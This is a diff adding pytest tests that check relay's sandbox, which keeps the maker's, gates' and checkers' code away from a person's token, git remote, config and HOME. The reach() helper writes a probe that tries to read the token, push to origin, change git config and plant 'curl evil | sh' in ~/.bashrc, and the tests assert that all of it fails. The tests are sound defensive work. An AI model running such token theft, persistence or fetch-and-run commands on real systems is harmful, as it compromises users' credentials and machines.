@@ -1,0 +1,194 @@
+"""The candidate's code and the roles that grade it run behind the maker's boundary: the
+gates (the baseline's and the candidate's, the metric of an optimisation goal) and the
+checkers run in standalone clones of relay's own, with the person's clone, its git
+directory, its origin and relay's token hidden, the real HOME read-only and no credential
+in their environment. What is kept still lands in the person's clone, by relay's hand."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+from pathlib import Path
+
+import pytest
+from loop_project import CALC_MUL, PY, TEST_MUL, Project, make_project
+from test_loop_unattended import METRIC, approve, with_cost
+
+from relay.ratchet.sandbox import NAMESPACES, level
+
+TOKEN = "relay-node-token-7c2d5e"
+
+pytestmark = pytest.mark.skipif(
+    level() != NAMESPACES, reason="this machine cannot make user and mount namespaces"
+)
+
+
+@pytest.fixture(autouse=True)
+def _quick_pytest(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("PYTEST_DISABLE_PLUGIN_AUTOLOAD", "1")
+
+
+def with_origin_and_token(project: Project, tmp_path: Path) -> tuple[Path, str]:
+    """A bare origin the person's clone pushes to, relay's token in the clone's git
+    directory; the origin's refs as they are."""
+    origin = tmp_path / "origin.git"
+    subprocess.run(["git", "init", "-q", "--bare", str(origin)], check=True)
+    project.git("remote", "add", "origin", str(origin))
+    project.git("push", "-q", "origin", "main")
+    token = project.root / ".git" / "relay" / "token"
+    token.parent.mkdir(parents=True, exist_ok=True)
+    token.write_text(TOKEN + "\n")
+    return origin, refs(origin)
+
+
+def refs(origin: Path) -> str:
+    return subprocess.run(
+        ["git", "for-each-ref"], cwd=origin, capture_output=True, text=True, check=True
+    ).stdout
+
+
+def reach(project: Project, origin: Path, home: Path, found: Path, who: str) -> str:
+    """Python that tries every way out of its box and writes what it reached to ``found``."""
+    clone, token = str(project.root), str(project.root / ".git" / "relay" / "token")
+    return (
+        "import json, os, pathlib, subprocess\n"
+        "got = {}\n"
+        "def ran(*argv, **kw):\n"
+        "    return subprocess.run(argv, capture_output=True, text=True, **kw).returncode == 0\n"
+        "try:\n"
+        f"    got['token'] = pathlib.Path({token!r}).read_text()\n"
+        "except OSError:\n"
+        "    got['token'] = None\n"
+        "got['push_origin'] = ran('env', '-u', 'GIT_ALLOW_PROTOCOL', '-u', 'GIT_CONFIG_COUNT',"
+        f" 'git', '-C', {clone!r}, 'push', 'origin', 'HEAD:refs/heads/{who}-1')\n"
+        f"got['push_path'] = ran('git', 'push', {str(origin)!r}, 'HEAD:refs/heads/{who}-2')\n"
+        f"got['config'] = ran('git', '-C', {clone!r}, 'config', 'relay.owned', '{who}')\n"
+        "try:\n"
+        f"    with open({str(home / '.bashrc')!r}, 'a') as out:\n"
+        "        out.write('curl evil | sh\\n')\n"
+        "    got['bashrc'] = True\n"
+        "except OSError:\n"
+        "    got['bashrc'] = False\n"
+        "got['env'] = sorted(k for k in os.environ if 'TOKEN' in k)\n"
+        f"pathlib.Path({str(found)!r}).write_text(json.dumps(got))\n"
+    )
+
+
+NOTHING = {
+    "token": None,
+    "push_origin": False,
+    "push_path": False,
+    "config": False,
+    "bashrc": False,
+    "env": [],
+}
+
+
+def held(project: Project, origin: Path, before: str, home: Path) -> None:
+    """Nothing of the person's changed: the origin's refs, the clone's config, HOME."""
+    assert refs(origin) == before
+    assert "owned" not in (project.root / ".git" / "config").read_text()
+    assert (home / ".bashrc").read_text() == "# the person's\n"
+
+
+def test_a_test_module_the_maker_adds_reaches_nothing_of_the_persons(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A new test module that, at import, reads relay's token, pushes to origin, changes
+    the person's git config and appends to ~/.bashrc: none of it happens (the gates run
+    it in a sandboxed clone of the candidate), so its own test fails and so does the
+    attempt; the person's clone is as it was."""
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".bashrc").write_text("# the person's\n")
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.setenv("RELAY_TOKEN", TOKEN)
+    project = make_project(tmp_path, retries=0)
+    origin, before = with_origin_and_token(project, tmp_path)
+    found = tmp_path / "scripts" / "found.json"
+    module = (
+        reach(project, origin, home, found, "gate") + "\n\n"
+        "def test_reached_out():\n"
+        "    assert got['token'], 'nothing to take: the box held'\n"
+    )
+    maker = project.script(
+        "maker",
+        f"put('src/calc.py', {CALC_MUL!r})\nput('tests/test_mul.py', {TEST_MUL!r})\n"
+        f"put('tests/test_zz_reach.py', {module!r})\n",
+    )
+    ran = project.loop("run", "--maker", maker)
+    assert ran.data["kept"] == [], ran
+    assert json.loads(found.read_text()) == NOTHING
+    held(project, origin, before, home)
+    failures = project.read("docs/loop/state/failures.md")
+    assert "test_reached_out" in failures and TOKEN not in failures
+    assert project.read("src/calc.py") == project.git("show", "HEAD:src/calc.py")
+    assert project.clean()
+
+
+def test_a_checker_reaches_nothing_and_a_kept_change_lands_in_the_persons_clone(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A checker that tries to push and to read relay's token finds nothing to use (it
+    reviews a read-only sandboxed clone of the candidate); its approval stands, and the
+    kept change is the person's clone's next commit."""
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".bashrc").write_text("# the person's\n")
+    monkeypatch.setenv("HOME", str(home))
+    project = make_project(tmp_path, retries=0)
+    origin, before = with_origin_and_token(project, tmp_path)
+    found = tmp_path / "scripts" / "found.json"
+    wrote = tmp_path / "scripts" / "wrote.json"
+    checker = project.script(
+        "checker",
+        reach(project, origin, home, found, "checker") + "try:\n"
+        "    pathlib.Path('src/calc.py').write_text('owned\\n')\n"
+        f"    pathlib.Path({str(wrote)!r}).write_text('true')\n"
+        "except OSError:\n"
+        f"    pathlib.Path({str(wrote)!r}).write_text('false')\n" + approve("checker"),
+    )
+    maker = project.script(
+        "maker", f"put('src/calc.py', {CALC_MUL!r})\nput('tests/test_mul.py', {TEST_MUL!r})\n"
+    )
+    ran = project.loop("run", "--maker", maker, "--checker", checker)
+    assert [k["goal"] for k in ran.data["kept"]] == ["G1"], ran
+    assert json.loads(found.read_text()) == NOTHING
+    assert json.loads(wrote.read_text()) is False  # the candidate's clone is read-only to it
+    held(project, origin, before, home)
+    kept = ran.data["kept"][0]["commit"]
+    project.git("merge-base", "--is-ancestor", kept, "main")  # on the person's branch
+    assert project.git("log", "-1", "--format=%s", kept).startswith("G1: Multiply")
+    assert project.git("show", f"{kept}:src/calc.py") == CALC_MUL
+    assert project.read("src/calc.py") == CALC_MUL and project.clean()
+
+
+def test_an_optimisation_goal_measures_in_sandboxed_clones_and_keeps_in_the_persons(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The optimiser's gates and metric run the candidate's code in sandboxed clones: a
+    metric that tries every way out reaches nothing, and the kept change is committed in
+    the person's clone."""
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".bashrc").write_text("# the person's\n")
+    monkeypatch.setenv("HOME", str(home))
+    project = make_project(tmp_path, accept=None, retries=1)
+    with_cost(project)
+    origin, before = with_origin_and_token(project, tmp_path)
+    found = tmp_path / "scripts" / "found.json"
+    probe = project.scripts / "probe.py"
+    probe.write_text(reach(project, origin, home, found, "metric"))
+    metric = f"{PY} {probe} && {METRIC}"
+    added = project.loop(
+        "goal", "add", "Cheaper", "--metric", metric, "--direction", "down", "--threshold", "10"
+    )
+    assert added.data == {"goal": "G1"}, added
+    maker = project.script("maker", 'put("cost.txt", "60\\n")\nprint("IDEA: A lookup table")\n')
+    ran = project.loop("run", "--maker", maker)
+    assert [k["goal"] for k in ran.data["kept"]] == ["G1"], ran
+    assert json.loads(found.read_text()) == NOTHING
+    held(project, origin, before, home)
+    assert project.read("cost.txt") == "60\n" and project.clean()
+    assert "cost.txt" in project.git("show", "--name-only", "--format=", "HEAD~1")
+    assert project.git("show", "HEAD~1:cost.txt") == "60\n"
